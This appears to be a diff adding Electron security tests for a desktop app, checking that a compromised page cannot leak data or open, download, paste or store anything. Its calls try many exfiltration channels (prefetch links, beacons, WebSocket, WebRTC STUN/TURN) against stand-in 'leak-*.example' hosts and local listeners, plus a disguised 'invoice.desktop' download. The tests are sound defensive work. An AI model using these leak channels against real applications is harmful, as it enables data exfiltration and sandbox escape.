@@ -1,0 +1,196 @@
+import { createSocket } from 'node:dgram'
+import { existsSync, readFileSync } from 'node:fs'
+import { createServer } from 'node:net'
+import { join } from 'node:path'
+import { expect, test } from './support/app'
+
+test('a page that was taken over reaches nobody, and asks for no name', async ({
+  launchApp,
+  freshFolder
+}) => {
+  const home = await freshFolder()
+  const netLog = join(home, 'net-log.json')
+  const packets: string[] = []
+  const udp = createSocket('udp4', () => packets.push('udp'))
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
+  const tcp = createServer((socket) => {
+    packets.push('tcp')
+    socket.destroy()
+  })
+  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve))
+  const ports = { udp: udp.address().port, tcp: (tcp.address() as { port: number }).port }
+
+  const app = await launchApp({
+    home,
+    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything']
+  })
+  await app.page.evaluate(async ({ udp, tcp }) => {
+    await new Promise((resolve) => setTimeout(resolve))
+    const attempt = async (run: () => unknown): Promise<void> => {
+      try {
+        await run()
+      } catch {
+        // Refused, as it should be; the listeners say what came through.
+      }
+    }
+    const add = (name: string, attributes: Record<string, string>): void => {
+      const element = document.createElement(name)
+      for (const [key, value] of Object.entries(attributes)) {
+        try {
+          element.setAttribute(key, value)
+        } catch {
+          // A trusted type is asked for.
+        }
+      }
+      document.head.append(element)
+      if (element instanceof HTMLAnchorElement) element.click()
+    }
+    const local = `http://127.0.0.1:${tcp}`
+    for (const rel of [
+      'dns-prefetch',
+      'preconnect',
+      'prefetch',
+      'preload',
+      'modulepreload',
+      'prerender',
+      'icon',
+      'stylesheet'
+    ]) {
+      add('link', { rel, href: `https://leak-${rel}.example`, as: 'script' })
+      add('link', { rel, href: `${local}/${rel}`, as: 'script' })
+    }
+    add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' })
+    add('a', { href: 'https://leak-anchor.example', ping: `${local}/ping` })
+    add('img', { src: `${local}/img` })
+    add('img', { src: 'https://leak-img.example/x' })
+    add('script', { type: 'speculationrules', src: `${local}/rules` })
+    add('style', {})
+    await attempt(() => fetch('https://leak-fetch.example'))
+    await attempt(() => navigator.sendBeacon(`${local}/beacon`, 'x'))
+    await attempt(() => new WebSocket(`ws://127.0.0.1:${tcp}/`))
+    await attempt(() => new EventSource(`${local}/events`))
+    await attempt(() => document.body.style.setProperty('background', `url(${local}/css)`))
+    await attempt(() => new FontFace('x', `url(${local}/font)`).load())
+    await attempt(async () => {
+      const { WebTransport } = window as unknown as {
+        WebTransport: new (url: string) => { ready: Promise<void> }
+      }
+      await new WebTransport('https://leak-transport.example:443/').ready
+    })
+    await attempt(() => window.open(`${local}/open`))
+    await attempt(() => {
+      const form = Object.assign(document.createElement('form'), { action: `${local}/form`, method: 'post' })
+      document.body.append(form)
+      form.submit()
+    })
+    const connect = async (maker: typeof RTCPeerConnection): Promise<void> => {
+      const iceServers = [
+        { urls: `stun:127.0.0.1:${udp}` },
+        { urls: 'stun:leak-stun.example:3478' },
+        { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'x', credential: 'x' },
+        { urls: 'turn:leak-turn.example:3478?transport=tcp', username: 'x', credential: 'x' }
+      ]
+      const peer = new maker({ iceServers })
+      peer.createDataChannel('x')
+      await peer.setLocalDescription(await peer.createOffer())
+      // What the other side would say: a candidate on this computer.
+      await new Promise((resolve) => setTimeout(resolve, 1500))
+    }
+    await attempt(() => connect(RTCPeerConnection))
+    await attempt(() => {
+      const frame = document.createElement('iframe')
+      document.body.append(frame)
+      const inside = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection }
+      return connect(inside.RTCPeerConnection)
+    })
+  }, ports)
+  await app.close()
+  udp.close()
+  tcp.close()
+  expect(existsSync(netLog)).toBe(true)
+  const names = new Set(readFileSync(netLog, 'utf8').match(/leak-[a-z-]+\.example/g))
+  expect({ packets: [...new Set(packets)], names: [...names] }).toEqual({ packets: [], names: [] })
+})
+
+test('a page that was taken over opens, stores, downloads and reads nothing by itself', async ({
+  launchApp
+}) => {
+  const app = await launchApp()
+  const { electron, page } = app
+  await electron.evaluate(({ clipboard, dialog, session, shell }) => {
+    const opened: string[] = []
+    Object.assign(globalThis, { opened })
+    void clipboard.writeText('what was copied elsewhere')
+    shell.openExternal = (url) => Promise.resolve(void opened.push(url))
+    shell.openPath = (path) => Promise.resolve(String(opened.push(path)))
+    dialog.showOpenDialog = () =>
+      Promise.resolve({ canceled: true, filePaths: [String(opened.push('dialog'))] })
+    session.defaultSession.on('will-download', (event) => {
+      if (!event.defaultPrevented) opened.push('download')
+    })
+  })
+  const opened = (): Promise<string[]> =>
+    electron.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)
+  const flood = (count: number): Promise<void> =>
+    page.evaluate(async (calls) => {
+      const { call } = (
+        window as unknown as {
+          readonly dailies: { readonly call: Record<string, (input: unknown) => Promise<unknown>> }
+        }
+      ).dailies
+      for (let turn = 0; turn < calls; turn += 1) {
+        await call['app.openLink']!({ link: 'modelslab_keys' })
+        await call['library.openFolder']!({})
+        if (turn % 10 === 0) await call['library.chooseFolder']!({})
+      }
+    }, count)
+  await flood(100)
+  // Events that the page makes are no gesture.
+  await page.evaluate(() => {
+    document.body.dispatchEvent(new MouseEvent('mousedown', { bubbles: true }))
+    document.body.click()
+  })
+  await flood(5)
+  expect(await opened()).toEqual([])
+
+  const outcome = await page.evaluate(async () => {
+    const link = Object.assign(document.createElement('a'), {
+      href: URL.createObjectURL(new Blob(['[Desktop Entry]'])),
+      download: 'invoice.desktop'
+    })
+    document.body.append(link)
+    link.click()
+    const field = document.createElement('textarea')
+    document.body.append(field)
+    field.focus()
+    // eslint-disable-next-line @typescript-eslint/no-deprecated -- a page can still call it
+    const pasted = document.execCommand('paste')
+    const present = ['indexedDB', 'caches', 'RTCPeerConnection', 'showSaveFilePicker'].filter(
+      (name) => name in window
+    )
+    const opfs = await (async () => navigator.storage.getDirectory())().then(
+      () => 'granted',
+      () => 'denied'
+    )
+    let frame = 'made'
+    try {
+      document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')
+    } catch {
+      frame = 'refused'
+    }
+    return { pasted, text: field.value, present, opfs, worker: 'serviceWorker' in navigator, frame }
+  })
+  expect(outcome).toEqual({
+    pasted: false,
+    text: '',
+    present: [],
+    opfs: 'denied',
+    worker: false,
+    frame: 'refused'
+  })
+
+  // One click opens one thing.
+  await page.mouse.click(700, 500)
+  await flood(5)
+  expect(await opened()).toHaveLength(1)
+})
